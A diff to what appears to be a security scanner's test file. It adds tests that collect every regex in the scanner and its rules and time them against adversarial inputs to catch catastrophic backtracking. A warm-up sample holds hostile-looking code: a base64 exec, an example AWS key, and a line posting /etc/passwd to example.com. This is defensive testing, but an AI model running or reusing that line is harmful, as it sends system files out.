@@ -781,3 +781,151 @@ def report_notes(report: dict):
     from datasec_scan.model import Notification
 
     return [Notification(n["path"], n["kind"], n["message"]) for n in report["notifications"]]
+
+
+# --- 5. every regex of the engine and the built-in rules under near-matches ---------------------------------------
+
+REGEX_BUDGET_S = 20  # per pattern, generous: a safety net against catastrophic backtracking, not a timing test
+REGEX_RUN = 10_000  # anchored calls (match, fullmatch): long runs expose backtracking that grows with length
+SCAN_RUN = 1_000  # unanchored calls (finditer) restart at every offset: exponential blow-up shows within ~30 chars
+# fnmatch.translate output (`(?s:...)\Z`, host and path globs): whole-string matchers, used with .match only;
+# scanning text with them is quadratic by construction, so they get the anchored calls only.
+_WHOLE_STRING = re.compile(r"\(\?s:.*\)\\Z$")
+
+
+def collect_patterns() -> list[tuple[str, re.Pattern]]:
+    """Every compiled regex reachable from datasec_scan.* and datasec_rules.* modules (globals, classes, containers)."""
+    import dataclasses
+    import pkgutil
+
+    import datasec_rules
+    import datasec_scan
+
+    found: dict[tuple, tuple[str, re.Pattern]] = {}
+    seen: set[int] = set()
+
+    def visit(value, where: str, depth: int) -> None:
+        if id(value) in seen or depth > 5:
+            return
+        seen.add(id(value))
+        if isinstance(value, re.Pattern):
+            found.setdefault((value.pattern, value.flags), (where, value))
+        elif isinstance(value, dict):
+            for k, v in list(value.items()):
+                visit(k, f"{where}[key]", depth + 1)
+                visit(v, f"{where}[{k!r}]"[:120], depth + 1)
+        elif isinstance(value, (list, tuple, set, frozenset)):
+            for i, v in enumerate(list(value)):
+                visit(v, f"{where}[{i}]", depth + 1)
+        elif dataclasses.is_dataclass(value) and not isinstance(value, type):
+            for f in dataclasses.fields(value):
+                visit(getattr(value, f.name, None), f"{where}.{f.name}", depth + 1)
+        elif isinstance(value, type) and value.__module__.startswith(("datasec_scan", "datasec_rules")):
+            for k, v in list(vars(value).items()):
+                visit(v, f"{where}.{k}", depth + 1)
+
+    for package in (datasec_scan, datasec_rules):
+        for info in pkgutil.walk_packages(package.__path__, package.__name__ + "."):
+            if info.name.endswith(".cli") or ".__main__" in info.name:
+                continue
+            module = importlib.import_module(info.name)
+            for name, value in list(vars(module).items()):
+                visit(value, f"{info.name}.{name}", 0)
+    for cached in list(getattr(re, "_cache", {}).values()):  # patterns compiled lazily (catalogs, re.search(str))
+        if isinstance(cached, re.Pattern):
+            found.setdefault((cached.pattern, cached.flags), ("re._cache", cached))
+    return sorted(found.values(), key=lambda item: (item[0], str(item[1].pattern)))
+
+
+def adversarial_inputs(pattern: re.Pattern, n: int = REGEX_RUN) -> list[str]:
+    source = pattern.pattern if isinstance(pattern.pattern, str) else pattern.pattern.decode("latin-1")
+    literals = [re.sub(r"\\(.)", r"\1", lit) for lit in re.findall(r"(?:\\[^\w\s]|[A-Za-z0-9_:/@.\-=#'\"]){2,}", source)]
+    literals = sorted(set(literals), key=lambda lit: (-len(lit), lit))[:4]
+    inputs = ["a" * n, "=" * n, " " * n, "A" * n, "0" * n, "a=" * (n // 2), "aA0_-/." * (n // 7), "\\" * n,
+              "/" * n, ".-" * (n // 2), "'\"" * (n // 2), "\n" * n, "\x00" * n,
+              "a" * n + "!", "A" * n + "!", "0" * n + "!", " " * n + "!", "aA0" * (n // 3) + "\x00"]  # run, then a miss
+    for lit in literals:
+        inputs += [lit * (n // len(lit)), (lit + " ") * (n // (len(lit) + 1)), lit + "a" * n, lit + "=" * n,
+                   lit[:-1] * (n // max(1, len(lit) - 1))]
+    return inputs
+
+
+def _regex_child(start: int) -> None:  # pragma: no cover - runs in a subprocess
+    """Run every pattern from `start` over its adversarial inputs, saying on stdout when each starts and ends."""
+    from datasec_scan.engine import scan_file as scan_one
+    from datasec_scan.plugins import discover as discover_rules
+
+    scan_one("warm.py", b"import base64, socket, os\nexec(base64.b64decode('eA=='))\nKEY='AKIAIOSFODNN7EXAMPLE'\n"
+             b"requests.post('https://example.com', data=open('/etc/passwd').read())\n", discover_rules(), Config())
+    patterns = collect_patterns()
+    if os.environ.get("DATASEC_REGEX_SELFTEST"):  # the harness's own check: a known catastrophic pattern
+        patterns = [("selftest", re.compile(r"^(a+)+$"))] + patterns[:3]
+    print(f"TOTAL {len(patterns)}", flush=True)
+    for i, (where, pattern) in enumerate(patterns[start:], start):
+        print(f"START {i} {where} {pattern.pattern!r}"[:400], flush=True)
+        as_subject = (lambda t: t.encode("latin-1", "replace")) if isinstance(pattern.pattern, bytes) else str
+        for text in adversarial_inputs(pattern, REGEX_RUN):
+            pattern.match(as_subject(text))
+            pattern.fullmatch(as_subject(text))
+        source = pattern.pattern if isinstance(pattern.pattern, str) else pattern.pattern.decode("latin-1")
+        if _WHOLE_STRING.match(source):
+            print(f"DONE {i}", flush=True)
+            continue
+        for text in adversarial_inputs(pattern, SCAN_RUN):
+            for _ in pattern.finditer(as_subject(text)):
+                pass
+        print(f"DONE {i}", flush=True)
+    print("ALL DONE", flush=True)
+
+
+def regex_survey(budget: float, env: dict[str, str] | None = None) -> tuple[int, list[str]]:
+    """Run the survey in subprocesses; returns (patterns, the ones that ran over `budget` seconds)."""
+    import queue
+    import threading
+
+    here = Path(__file__).resolve().parent
+    slow: list[str] = []
+    start, total = 0, 0
+    while True:
+        code = f"import sys; sys.path.insert(0, {str(here)!r}); import test_hostile as t; t._regex_child({start})"
+        child = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
+                                 text=True, env={**os.environ, **(env or {})})
+        lines: queue.Queue = queue.Queue()
+        threading.Thread(target=lambda: [lines.put(line) for line in child.stdout] + [lines.put(None)],
+                         daemon=True).start()  # a thread reads, so a line is never stuck in a buffer
+        current, finished, timeout = None, False, max(60.0, budget * 3)  # the first wait covers start-up
+        while True:
+            try:
+                line = lines.get(timeout=timeout)
+            except queue.Empty:
+                child.kill()
+                child.wait()
+                slow.append(current or "(start-up)")
+                break
+            if line is None:
+                child.wait()
+                assert finished, f"regex survey child failed ({child.returncode})"
+                break
+            if line.startswith("TOTAL"):
+                total = int(line.split()[1])
+            elif line.startswith("START"):
+                current, timeout = line.strip(), budget
+            elif line.startswith("DONE"):
+                start, current = int(line.split()[1]) + 1, None
+            elif line.startswith("ALL DONE"):
+                finished = True
+        if finished or current is None:
+            break
+        start += 1  # skip the pattern that hung and survey the rest
+    return total, slow
+
+
+def test_every_regex_survives_near_matches() -> None:
+    total, slow = regex_survey(REGEX_BUDGET_S)
+    assert total > 20, "regex survey found suspiciously few patterns"
+    assert not slow, "regexes over the time budget on near-match input (catastrophic backtracking?):\n" + "\n".join(slow)
+
+
+def test_regex_survey_catches_catastrophic_backtracking() -> None:
+    total, slow = regex_survey(2, {"DATASEC_REGEX_SELFTEST": "1"})
+    assert total == 4 and len(slow) == 1 and "selftest" in slow[0]
